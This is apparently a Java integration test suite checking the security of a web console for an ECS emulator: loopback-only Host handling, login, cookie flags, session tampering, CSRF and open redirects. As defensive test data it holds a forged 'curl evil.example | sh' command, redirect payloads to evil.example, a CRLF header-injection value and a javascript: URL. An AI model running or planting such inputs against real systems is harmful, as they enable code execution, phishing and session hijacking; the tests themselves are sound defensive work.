package dev.ecsd.console;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.ecsd.testing.SharedServer;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import software.amazon.awssdk.services.ecs.EcsClient;
import software.amazon.awssdk.services.ecs.model.LaunchType;
import software.amazon.awssdk.services.ecs.model.NetworkConfiguration;
import software.amazon.awssdk.services.ecs.model.Service;
import software.amazon.awssdk.services.ecs.model.Task;

/**
 * Issue 13's security items over raw HTTP: a loopback bind opens the console directly (to loopback names only); any
 * other bind asks for the server's key and secret and refuses a wrong one; the session cookie is HttpOnly,
 * SameSite=Strict, signed and revocable; every POST needs its session's CSRF token; no secret is in a page or URL;
 * the login leads nowhere but this console. The browser half is {@link ConsoleLoginBrowserIT}.
 */
class ConsoleSecurityIT {
    private static final String CLUSTER = "guarded";
    private static GuardedConsole guarded;
    private static String taskId;

    @RegisterExtension
    static final SharedServer LOOPBACK = SharedServer.simulated();

    @BeforeAll
    static void startGuarded() {
        guarded = GuardedConsole.start();
        EcsClient ecs = guarded.ecs();
        ecs.createCluster(r -> r.clusterName(CLUSTER));
        NetworkConfiguration awsvpc = ConsoleHttp.webService(ecs, CLUSTER, 1);
        Task task = ecs.runTask(r -> r.cluster(CLUSTER).taskDefinition("web").launchType(LaunchType.FARGATE)
                .networkConfiguration(awsvpc)).tasks().getFirst();
        taskId = task.taskArn().substring(task.taskArn().lastIndexOf('/') + 1);
        await().atMost(Duration.ofSeconds(60)).until(() -> ecs.describeClusters(r -> r.clusters(CLUSTER))
                .clusters().getFirst().runningTasksCount() == 2);
    }

    @AfterAll
    static void stopGuarded() {
        if (guarded != null) {
            guarded.close();
        }
    }

    @Test
    void onALoopbackBindTheConsoleOpensDirectly() {
        ConsoleHttp visitor = new ConsoleHttp(LOOPBACK.endpoint());

        HttpResponse<String> page = visitor.get("/ui/");

        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).contains("<h1>Clusters</h1>").doesNotContain("Log in to ecsd");
        assertThat(page.body()).as("nothing to log out of").doesNotContain("/ui/logout");
        assertThat(visitor.get(LoginPage.PATH).statusCode()).as("the login page leads on").isEqualTo(303);
    }

    @Test
    void itAnswersOnlyToLoopbackNamesSoARebindingSiteCannotReadIt() throws IOException {
        int port = LOOPBACK.endpoint().getPort();

        assertThat(rawGet(port, "evil.example:" + port, "/ui/")).startsWith("HTTP/1.1 403");
        assertThat(rawGet(port, "evil.example:" + port, "/ui/r/us-east-1/clusters/x")).startsWith("HTTP/1.1 403")
                .doesNotContain("csrf");
        assertThat(rawGet(port, "localhost:" + port, "/ui/")).startsWith("HTTP/1.1 200");
        assertThat(rawGet(port, "127.0.0.1:" + port, "/ui/")).startsWith("HTTP/1.1 200");
    }

    @Test
    void aHeadAnswersAsAGetWithoutTheBody() {
        ConsoleHttp visitor = new ConsoleHttp(LOOPBACK.endpoint());
        HttpResponse<String> get = visitor.get("/ui/");

        HttpResponse<String> head = visitor.head("/ui/");

        assertThat(head.statusCode()).isEqualTo(200);
        assertThat(head.body()).isEmpty();
        assertThat(head.headers().firstValueAsLong("Content-Length"))
                .hasValue(get.body().getBytes(StandardCharsets.UTF_8).length);
        assertThat(head.headers().firstValue("Cache-Control")).hasValue("no-store");
    }

    @Test
    void aMessageInTheAddressIsShownOnlyWhenTheConsoleItselfSignedIt() {
        ConsoleHttp visitor = new ConsoleHttp(LOOPBACK.endpoint());
        visitor.get("/ui/");

        HttpResponse<String> page = visitor.get("/ui/?error=Your+server+is+compromised%3A+call+555-0100"
                + "&done=Run+curl+evil.example+%7C+sh&flash=forged");

        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).doesNotContain("compromised").doesNotContain("curl evil.example");
        // nor through the login's redirect to next=, which a GET answers: only actions' redirects are signed
        HttpResponse<String> onward = visitor.get(LoginPage.PATH + "?next="
                + LoginPage.encode("/ui/?error=Your+server+is+compromised"));
        assertThat(onward.statusCode()).isEqualTo(303);
        assertThat(location(onward)).contains("compromised");
        assertThat(visitor.get(location(onward)).body()).doesNotContain("compromised");
    }

    @Test
    void onAnyOtherBindTheConsoleSendsAVisitorToTheLoginAndBackToThePageAskedFor() {
        ConsoleHttp visitor = new ConsoleHttp(guarded.endpoint());
        String asked = ConsolePaths.cluster("us-east-1", CLUSTER);

        HttpResponse<String> first = visitor.get(asked);
        assertThat(first.statusCode()).isEqualTo(303);
        assertThat(location(first)).isEqualTo(LoginPage.PATH + "?next=" + LoginPage.encode(asked));
        assertThat(visitor.get("/ui/").statusCode()).isEqualTo(303);
        assertThat(visitor.get(asked + "?part=cluster_tasks").statusCode()).as("a live part").isEqualTo(401);

        HttpResponse<String> form = visitor.get(location(first));
        assertThat(form.statusCode()).isEqualTo(200);
        assertThat(form.body()).contains("Log in to ecsd").contains("value=\"" + asked + "\"");
        HttpResponse<String> in = visitor.post(LoginPage.PATH, Map.of("csrf", ConsoleHttp.csrf(form.body()),
                "accessKeyId", GuardedConsole.KEY_ID, "secretAccessKey", GuardedConsole.SECRET, "next", asked));

        assertThat(in.statusCode()).isEqualTo(303);
        assertThat(location(in)).isEqualTo(asked);
        HttpResponse<String> page = visitor.get(asked);
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).contains("Cluster " + CLUSTER).contains("/ui/logout");
    }

    @Test
    void aWrongSecretIsRefusedAndGrantsNoSession() {
        for (String[] wrong : new String[][] {{GuardedConsole.KEY_ID, GuardedConsole.SECRET + "x"},
                {GuardedConsole.KEY_ID, "test"}, {"test", "test"}, {"AKIDOTHER", GuardedConsole.SECRET}}) {
            ConsoleHttp visitor = new ConsoleHttp(guarded.endpoint());
            HttpResponse<String> form = visitor.get(LoginPage.PATH);
            String before = visitor.cookie();

            HttpResponse<String> refused = visitor.post(LoginPage.PATH, Map.of("csrf",
                    ConsoleHttp.csrf(form.body()), "accessKeyId", wrong[0], "secretAccessKey", wrong[1],
                    "next", "/ui/"));

            assertThat(refused.statusCode()).as("%s / %s", wrong[0], wrong[1]).isEqualTo(401);
            assertThat(refused.body()).contains("not the server's").contains("Log in to ecsd")
                    .doesNotContain("value=\"" + wrong[1] + "\"");
            assertThat(ConsoleHttp.setCookie(refused)).as("no session granted").isEmpty();
            assertThat(visitor.cookie()).isEqualTo(before);
            HttpResponse<String> next = visitor.get("/ui/");
            assertThat(next.statusCode()).isEqualTo(303);
            assertThat(location(next)).startsWith(LoginPage.PATH);
        }
    }

    @Test
    void theSessionCookieIsHttpOnlySameSiteStrictAndTheConsolesOnly() {
        ConsoleHttp visitor = new ConsoleHttp(guarded.endpoint());
        HttpResponse<String> form = visitor.get(LoginPage.PATH);
        String anonymous = ConsoleHttp.setCookie(form).orElseThrow();
        HttpResponse<String> in = visitor.post(LoginPage.PATH, Map.of("csrf", ConsoleHttp.csrf(form.body()),
                "accessKeyId", GuardedConsole.KEY_ID, "secretAccessKey", GuardedConsole.SECRET, "next", "/ui/"));
        String loggedIn = ConsoleHttp.setCookie(in).orElseThrow();

        for (String header : List.of(anonymous, loggedIn)) {
            List<String> attributes = List.of(header.split(";\\s*"));
            assertThat(attributes).contains("HttpOnly", "SameSite=Strict", "Path=/ui/");
            assertThat(header).doesNotContain(GuardedConsole.SECRET).doesNotContain(GuardedConsole.KEY_ID);
        }
        assertThat(loggedIn).as("a new session at login, not the one from before it").isNotEqualTo(anonymous);
    }

    @Test
    void aTamperedOrForeignCookieIsNoSession() {
        ConsoleHttp visitor = guarded.loggedIn();
        String good = visitor.cookie();
        int last = good.length() - 1;
        String flipped = good.substring(0, last) + (good.charAt(last) == 'A' ? 'B' : 'A');
        String[] parts = good.split("\\.");
        String longer = parts[0] + "." + parts[1] + "." + parts[2] + "." + (Long.parseLong(parts[3]) + 3600)
                + "." + parts[4];
        ConsoleHttp other = new ConsoleHttp(LOOPBACK.endpoint());
        other.get("/ui/");
        String foreign = other.cookie();

        for (String cookie : List.of(flipped, longer, foreign, "v1.x.1.99999999999.x", "garbage")) {
            ConsoleHttp forger = new ConsoleHttp(guarded.endpoint());
            forger.cookie(cookie);
            HttpResponse<String> answer = forger.get("/ui/");
            assertThat(answer.statusCode()).as(cookie).isEqualTo(303);
            assertThat(location(answer)).startsWith(LoginPage.PATH);
            assertThat(forger.cookie()).as("a fresh session replaces it").isNotEqualTo(cookie);
        }
        ConsoleHttp still = new ConsoleHttp(guarded.endpoint());
        still.cookie(good);
        assertThat(still.get("/ui/").statusCode()).as("the untouched cookie works").isEqualTo(200);
    }

    @Test
    void aLoggedOutCookieReplayedIsRefused() {
        ConsoleHttp visitor = guarded.loggedIn();
        String before = visitor.cookie();
        String token = ConsoleHttp.csrf(visitor.get("/ui/").body());

        HttpResponse<String> out = visitor.post(LoginPage.LOGOUT, Map.of("csrf", token));

        assertThat(out.statusCode()).isEqualTo(303);
        assertThat(location(out)).isEqualTo(LoginPage.PATH);
        ConsoleHttp replay = new ConsoleHttp(guarded.endpoint());
        replay.cookie(before);
        assertThat(replay.get("/ui/").statusCode()).isEqualTo(303);
    }

    @Test
    void theLoginLeadsOnlyToThisConsole() {
        for (String next : List.of("https://evil.example/", "//evil.example/", "/ui//evil.example",
                "/ui/\r\nSet-Cookie: a=b", "javascript:alert(1)")) {
            ConsoleHttp visitor = new ConsoleHttp(guarded.endpoint());
            HttpResponse<String> form = visitor.get(LoginPage.PATH + "?next=" + LoginPage.encode(next));
            assertThat(form.body()).doesNotContain("evil.example").doesNotContain("javascript:");

            HttpResponse<String> in = visitor.post(LoginPage.PATH, Map.of("csrf", ConsoleHttp.csrf(form.body()),
                    "accessKeyId", GuardedConsole.KEY_ID, "secretAccessKey", GuardedConsole.SECRET,
                    "next", next));

            assertThat(in.statusCode()).isEqualTo(303);
            assertThat(location(in)).as(next).isEqualTo("/ui/");
            assertThat(in.headers().allValues("Set-Cookie")).noneMatch(value -> value.startsWith("a="));
            HttpResponse<String> again = visitor.get(LoginPage.PATH + "?next=" + LoginPage.encode(next));
            assertThat(location(again)).as("logged in: the login page leads on, to the console").isEqualTo("/ui/");
        }
    }

    @Test
    void noPageAndNoAddressCarriesTheSecret() {
        ConsoleHttp visitor = new ConsoleHttp(guarded.endpoint());
        List<HttpResponse<String>> seen = new ArrayList<>();
        seen.add(visitor.get("/ui/"));
        HttpResponse<String> form = visitor.get(LoginPage.PATH);
        seen.add(form);
        assertThat(form.body()).contains("<form method=\"post\" action=\"/ui/login\"")
                .contains("name=\"secretAccessKey\" type=\"password\"");
        seen.add(visitor.post(LoginPage.PATH, Map.of("csrf", ConsoleHttp.csrf(form.body()),
                "accessKeyId", GuardedConsole.KEY_ID, "secretAccessKey", GuardedConsole.SECRET, "next",
                ConsolePaths.cluster("us-east-1", CLUSTER))));
        String cluster = ConsolePaths.cluster("us-east-1", CLUSTER);
        for (String path : List.of("/ui/", cluster, cluster + "?part=cluster_tasks", cluster + "?status=RUNNING",
                cluster + "/services/web", cluster + "/tasks/" + taskId, "/ui/r/us-east-1/task-definitions",
                "/ui/r/us-east-1/clusters/nope", "/ui/nowhere", LoginPage.PATH)) {
            seen.add(visitor.get(path));
        }

        for (HttpResponse<String> response : seen) {
            assertThat(response.body()).as(response.uri().toString()).doesNotContain(GuardedConsole.SECRET)
                    .doesNotContain(LoginPage.encode(GuardedConsole.SECRET));
            assertThat(response.uri().toString()).doesNotContain(GuardedConsole.SECRET)
                    .doesNotContain(LoginPage.encode(GuardedConsole.SECRET));
            assertThat(response.headers().map().toString()).doesNotContain(GuardedConsole.SECRET)
                    .doesNotContain(LoginPage.encode(GuardedConsole.SECRET));
        }
        assertThat(seen.get(3).statusCode()).as("logged in: the clusters page").isEqualTo(200);
    }

    @Test
    void everyPostWithoutItsSessionsCsrfTokenIsRefusedAndChangesNothing() {
        ConsoleHttp visitor = guarded.loggedIn();
        ConsoleHttp stranger = guarded.loggedIn();
        String strangersToken = ConsoleHttp.csrf(stranger.get("/ui/").body());
        Map<String, String> before = observed();
        List<String> posts = postPaths();
        assertThat(posts).contains(LoginPage.PATH, LoginPage.LOGOUT);

        for (String path : posts) {
            Map<String, String> fields = new HashMap<>(Map.of("accessKeyId", GuardedConsole.KEY_ID,
                    "secretAccessKey", GuardedConsole.SECRET, "next", "/ui/", "desiredCount", "0",
                    "reason", "csrf test", "count", "0"));
            HttpResponse<String> without = visitor.post(path, fields);
            fields.put("csrf", strangersToken);
            HttpResponse<String> foreign = visitor.post(path, fields);
            fields.put("csrf", "");
            HttpResponse<String> empty = visitor.post(path, fields);

            for (HttpResponse<String> refused : List.of(without, foreign, empty)) {
                assertThat(refused.statusCode()).as("POST %s", path).isEqualTo(403);
                assertThat(ConsoleHttp.setCookie(refused)).as("POST %s sets no cookie", path).isEmpty();
                assertThat(refused.headers().firstValue("Location")).isEmpty();
            }
        }

        assertThat(visitor.get("/ui/").statusCode()).as("still logged in: the logout was refused too")
                .isEqualTo(200);
        assertThat(observed()).isEqualTo(before);
        ConsoleHttp anonymous = new ConsoleHttp(guarded.endpoint());
        HttpResponse<String> form = anonymous.get(LoginPage.PATH);
        HttpResponse<String> noToken = anonymous.post(LoginPage.PATH, Map.of("accessKeyId", GuardedConsole.KEY_ID,
                "secretAccessKey", GuardedConsole.SECRET, "next", "/ui/"));
        assertThat(form.statusCode()).isEqualTo(200);
        assertThat(noToken.statusCode()).as("a login without its token, right key or not").isEqualTo(403);
        assertThat(anonymous.get("/ui/").statusCode()).isEqualTo(303);
    }

    /** Every path a console form POSTs to, its {@code {name}} parts filled with this server's resources. */
    private static List<String> postPaths() {
        Console console = new Console(new NoRegions(), InstantSource.system(), "k", "s", false);
        Map<String, String> names = Map.of("region", "us-east-1", "cluster", CLUSTER, "service", "web", "task",
                taskId, "family", "web", "revision", "1");
        List<String> paths = new ArrayList<>();
        for (ConsoleRoutes.Route route : console.routes().all()) {
            if (!route.method().equals("POST")) {
                continue;
            }
            StringBuilder path = new StringBuilder();
            for (String segment : route.pattern().substring(1).split("/", -1)) {
                boolean named = segment.startsWith("{") && segment.endsWith("}");
                path.append('/').append(named ? ConsolePaths.segment(names.getOrDefault(
                        segment.substring(1, segment.length() - 1), "x")) : segment);
            }
            paths.add(path.toString());
        }
        return paths;
    }

    /** What a console action could change: the service, the tasks, the task definition, the cluster. */
    private static Map<String, String> observed() {
        EcsClient ecs = guarded.ecs();
        Service web = ecs.describeServices(r -> r.cluster(CLUSTER).services("web")).services().getFirst();
        List<String> tasks = ecs.listTasks(r -> r.cluster(CLUSTER)).taskArns();
        Map<String, String> seen = new HashMap<>();
        seen.put("service", web.status() + " desired=" + web.desiredCount() + " deployments="
                + web.deployments().stream().map(d -> d.id() + ":" + d.taskDefinition()).toList());
        seen.put("tasks", ecs.describeTasks(r -> r.cluster(CLUSTER).tasks(tasks)).tasks().stream()
                .map(t -> t.taskArn() + "=" + t.desiredStatus()).sorted().toList().toString());
        seen.put("definition", ecs.describeTaskDefinition(r -> r.taskDefinition("web:1")).taskDefinition()
                .statusAsString());
        seen.put("cluster", ecs.describeClusters(r -> r.clusters(CLUSTER)).clusters().getFirst().status());
        return seen;
    }

    private static String location(HttpResponse<?> response) {
        return response.headers().firstValue("Location").orElseThrow(() -> new AssertionError(
                "no Location in a " + response.statusCode() + " answer"));
    }

    /** A GET with a Host header of our choosing (HttpClient will not send one), over a socket to 127.0.0.1. */
    private static String rawGet(int port, String host, String path) throws IOException {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(("GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
